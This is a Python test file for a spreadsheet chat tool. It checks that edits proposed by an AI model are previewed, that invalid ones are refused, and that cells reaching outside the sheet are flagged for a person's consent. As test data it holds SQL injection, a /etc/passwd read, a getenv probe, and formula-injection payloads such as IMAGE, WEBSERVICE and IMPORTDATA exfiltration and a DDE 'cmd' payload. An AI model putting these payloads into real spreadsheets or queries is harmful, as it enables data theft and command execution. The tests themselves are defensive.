"""What a model may propose, what it is told of it, and what it is refused."""

import ast
from pathlib import Path

import pytest
from pydantic import JsonValue

from chatsheet.chat import tools
from chatsheet.chat.events import AiColumnProposal
from chatsheet.chat.tools import proposing, toolbox
from chatsheet.context import budget
from chatsheet.core import loose
from tests.chat.proposed import Jobs, edit_of, talking
from tests.sheets import formula_sheets

pytestmark = pytest.mark.anyio

MANY = b"item,price\n" + b"".join(b"item %d,%d\n" % (number, number) for number in range(1, 401))


async def test_a_proposal_has_both_values_of_each_cell_and_changes_nothing(tmp_path: Path) -> None:
    async with talking(tmp_path) as talk:
        before = await talk.opened()
        proposal = edit_of(await talk.propose({"op": "fill", "column": "price", "where": "count > 5", "expression": "price*2"}))
        assert (proposal.id, proposal.preview.version, proposal.reason) == ("p1", before.sheet.version, "because")
        cells = [(cell.row, cell.before, cell.after) for cell in proposal.preview.changes[0].sample]
        assert cells == [(2, 1.5, 3.0), (3, 2.25, 4.5)]
        assert (await talk.opened()).sheet == before.sheet


async def test_the_model_hears_counts_and_that_nothing_is_done_yet(tmp_path: Path) -> None:
    async with talking(tmp_path, content=MANY) as talk:
        answered = await talk.propose({"op": "fill", "column": "price", "expression": "price + 1"})
    told = loose.obj(loose.parse(answered.content))
    change = loose.obj(loose.array(told["changes"])[0])
    assert (told["proposed"], told["state"], change["rows"]) == ("p1", "nothing is changed yet: a person decides", 400)
    assert len(loose.array(change["sample"])) == 3
    assert budget.count(answered.content) < 150


EVERY_OP: list[tuple[dict[str, JsonValue], str]] = [
    ({"op": "set", "column": "price", "rows": [2, 4], "value": 7}, "set"),
    ({"op": "fill", "column": "item", "where": "item = 'pen'", "value": "pencil"}, "fill"),
    ({"op": "fill", "column": "price", "rows": [3], "value": ""}, "fill"),
    ({"op": "insert_rows", "new_rows": [{"item": "jar", "price": 2}], "after": 3}, "insert_rows"),
    ({"op": "delete_rows", "where": "count < 5"}, "delete_rows"),
    ({"op": "add_column", "label": "Total", "type": "decimal", "expression": "price * count"}, "add_column"),
    ({"op": "rename_column", "column": "price", "label": "Unit price"}, "rename_column"),
    ({"op": "retype_column", "column": "count", "type": "decimal", "where": None, "value": None}, "retype_column"),
    ({"op": "delete_column", "column": "sold"}, "delete_column"),
]


@pytest.mark.parametrize(("op", "kind"), EVERY_OP)
async def test_each_kind_of_edit_can_be_proposed(tmp_path: Path, op: dict[str, JsonValue], kind: str) -> None:
    async with talking(tmp_path) as talk:
        proposal = edit_of(await talk.propose(op))
    assert [change.kind for change in proposal.preview.changes] == [kind]


REFUSED: list[tuple[dict[str, JsonValue], str]] = [
    ({"op": "fill", "column": "prize", "value": 1}, "did you mean price?"),
    ({"op": "fill", "table": "price", "column": "price", "value": 1}, "did you mean prices?"),
    ({"op": "fill", "column": "price", "where": "cuont > 1", "value": 1}, "count"),
    ({"op": "fill", "column": "price", "where": "item = 'Penn'", "value": 1}, "item has 'pen'"),
    ({"op": "delete_rows", "where": "count > 1000"}, "no row of prices matches count > 1000"),
    ({"op": "fill", "column": "price", "where": "item = 'pen'", "value": 1.5}, "hold that already"),
    ({"op": "fill", "column": "price"}, "lacks value, expression or formula"),
    ({"op": "set", "column": "price", "value": 1}, "lacks rows"),
    ({"op": "set", "column": "price", "rows": [900], "value": 1}, "900"),
    ({"op": "set", "column": "price", "rows": [2], "value": "dear"}, "no decimal"),
    ({"op": "delete_rows"}, "lacks rows or where"),
    ({"op": "retype_column", "column": "price"}, "lacks type"),
    ({"op": "apply"}, "wrong arguments"),
    ({"op": "fill", "column": "price", "where": "1=1); DROP TABLE prices; --", "value": 1}, "no single SQL expression"),
    ({"op": "fill", "column": "item", "expression": "read_text('/etc/passwd')"}, "read_text"),
]


@pytest.mark.parametrize(("op", "why"), REFUSED)
async def test_what_cannot_be_proposed_is_refused_with_what_would_work(
    tmp_path: Path, op: dict[str, JsonValue], why: str
) -> None:
    async with talking(tmp_path) as talk:
        answered = await talk.propose(op)
    assert answered.is_error
    assert answered.proposal is None
    assert why in answered.content


async def test_an_edit_without_a_condition_says_that_it_hits_every_row(tmp_path: Path) -> None:
    async with talking(tmp_path) as talk:
        proposal = edit_of(
            await talk.propose(
                {"op": "fill", "column": "price", "value": 0},
                {"op": "delete_rows", "where": "count > 0"},
            )
        )
    assert proposal.warnings == (
        "no condition: every one of the 4 rows of prices",
        "the condition count > 0 holds for every one of the 4 rows of prices",
    )


async def test_several_edits_are_one_proposal_and_the_later_see_the_earlier(tmp_path: Path) -> None:
    async with talking(tmp_path) as talk:
        first = edit_of(
            await talk.propose(
                {"op": "add_column", "label": "Note"},
                {"op": "fill", "column": "note", "where": "price > 10", "value": "dear"},
            )
        )
        second = edit_of(await talk.propose({"op": "delete_column", "column": "sold"}))
    assert [change.cells for change in first.preview.changes] == [0, 2]
    assert [first.id, second.id] == ["p1", "p2"]


FLAGGED: list[tuple[dict[str, JsonValue], str]] = [
    ({"op": "set", "column": "item", "rows": [2], "value": '=IMAGE("http://example.org/?"&A2)'}, "IMAGE"),
    ({"op": "fill", "column": "item", "value": '\u200b =  h\u200byperlink ("http://example.org")'}, "HYPERLINK"),
    ({"op": "fill", "column": "item", "expression": "'=WEB' || 'SERVICE(A' || count || ')'"}, "WEBSERVICE"),
    ({"op": "add_column", "label": "x", "expression": "concat('=IMPORT', 'DATA(1)')"}, "IMPORTDATA"),
    ({"op": "rename_column", "column": "item", "label": "=RTD(1)"}, "RTD"),
    ({"op": "insert_rows", "new_rows": [{"item": "+cmd|' /C calc'!A0"}]}, "DDE"),
]


@pytest.mark.parametrize(("op", "name"), FLAGGED)
async def test_what_reaches_out_of_the_sheet_is_named_for_consent(tmp_path: Path, op: dict[str, JsonValue], name: str) -> None:
    async with talking(tmp_path) as talk:
        answered = await talk.propose(op)
    assert edit_of(answered).needs_consent == (name,)
    assert name in answered.content


async def test_what_reaches_out_in_a_row_that_the_preview_leaves_out_is_found(tmp_path: Path) -> None:
    hidden = "CASE WHEN price = 399 THEN '=IM' || 'AGE(1)' ELSE 'fine' END"
    async with talking(tmp_path, content=MANY) as talk:
        proposal = edit_of(await talk.propose({"op": "fill", "column": "item", "expression": hidden}))
    assert not proposal.preview.changes[0].is_complete
    assert proposal.needs_consent == ("IMAGE",)


async def test_what_cannot_be_looked_through_needs_a_consent_too(tmp_path: Path) -> None:
    async with talking(tmp_path, content=MANY) as talk:
        proposal = edit_of(
            await talk.propose(
                {"op": "add_column", "label": "a", "value": "x"},
                {"op": "add_column", "label": "b", "expression": "a || price"},
            )
        )
    assert proposal.needs_consent == ("unchecked values",)


async def test_an_ai_column_is_counted_before_it_is_proposed(tmp_path: Path) -> None:
    content = b"item,mood\n" + b"good,a\nbad,b\n" * 50
    async with talking(tmp_path, content=content, ai_columns=Jobs()) as talk:
        answered = await talk.call("propose_ai_column", table="prices", label="Sentiment", template="Rate: {item}")
    proposal = answered.proposal
    assert isinstance(proposal, AiColumnProposal)
    assert (proposal.rows, proposal.distinct, proposal.tokens) == (100, 2, 7)
    assert "good" not in answered.content


@pytest.mark.parametrize(
    ("arguments", "why"),
    [
        ({"template": "Rate: {itme}"}, "did you mean item?"),
        ({"template": "Rate it."}, "names no column"),
        ({"template": "{item}", "where": "count > 1000"}, "no row of prices matches"),
        ({"template": "{item}", "where": "getenv('HOME') = ''"}, "getenv"),
    ],
)
async def test_an_ai_column_that_cannot_run_is_refused(tmp_path: Path, arguments: dict[str, JsonValue], why: str) -> None:
    async with talking(tmp_path, ai_columns=Jobs()) as talk:
        answered = await talk.call("propose_ai_column", table="prices", label="x", **arguments)
    assert answered.is_error
    assert why in answered.content


def test_ai_columns_are_offered_only_where_something_runs_them() -> None:
    def names(*, has_ai_columns: bool) -> set[str]:
        return {tool.name for tool in proposing.offered(has_ai_columns=has_ai_columns)}

    assert names(has_ai_columns=False) == {"propose_edit"}
    assert names(has_ai_columns=True) == {"propose_edit", "propose_ai_column"}


def test_no_tool_can_do_more_than_read_and_look_ahead() -> None:
    """Tools hold the library; of what it does they call only what leaves a sheet as it is, and never the deciding."""
    (folder,) = map(Path, tools.__path__)
    helpers = (folder.parent / f"{name}.py" for name in ("ai_columns", "reach", "proposals"))
    for path in (*folder.glob("*.py"), *helpers):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        called = {node.attr for node in ast.walk(tree) if isinstance(node, ast.Attribute)}
        assert not called & {"edit", "undo", "redo", "correct", "bring_in", "decide", "_library", "gateway"}, path.name
        imported = {
            name
            for node in ast.walk(tree)
            if isinstance(node, ast.ImportFrom)
            for name in (node.module or "", *(f"{node.module}.{one.name}" for one in node.names))
        }
        assert not imported & {"chatsheet.chat.deciding", "chatsheet.chat.driver", "aiohttp", "socket"}, path.name


def test_a_small_model_is_not_offered_proposals() -> None:
    box = toolbox.offered(is_small=True, more=proposing.offered(has_ai_columns=True))
    assert [tool.name for tool in box.tools] == ["run_sql"]


def test_the_proposing_tool_costs_few_tokens() -> None:
    (schema,) = toolbox.Toolbox(proposing.offered(has_ai_columns=False)).schemas()
    assert budget.count(loose.dumps(schema)) < 450


async def test_formulas_that_move_are_in_the_card_and_told_to_the_model(tmp_path: Path) -> None:
    book = formula_sheets.write(tmp_path / "orders.xlsx")
    async with talking(tmp_path, content=book.read_bytes(), name="orders.xlsx") as talk:
        answered = await talk.propose({"op": "set", "table": "orders", "column": "price", "rows": [2], "value": 10})
    formulas = edit_of(answered).preview.formulas
    assert "Orders!D2" in {f"{one.tab}!{one.cell}" for one in formulas.recalculated}
    told = loose.obj(loose.obj(loose.parse(answered.content))["formulas"])
    assert told["recalculated"] == formulas.counts.recalculated


async def test_a_formula_can_be_proposed_and_one_that_reaches_out_cannot(tmp_path: Path) -> None:
    book = formula_sheets.write(tmp_path / "orders.xlsx").read_bytes()
    add: dict[str, JsonValue] = {"op": "add_column", "table": "orders", "label": "Twice", "formula": "=[@Price]*2"}
    async with talking(tmp_path, content=book, name="orders.xlsx") as talk:
        kept = edit_of(await talk.propose(add))
        refused = await talk.propose({**add, "formula": '=WEBSERVICE("https://example.com/"&[@Price])'})
    assert kept.preview.changes[0].cells > 0
    assert refused.is_error
    assert refused.proposal is None
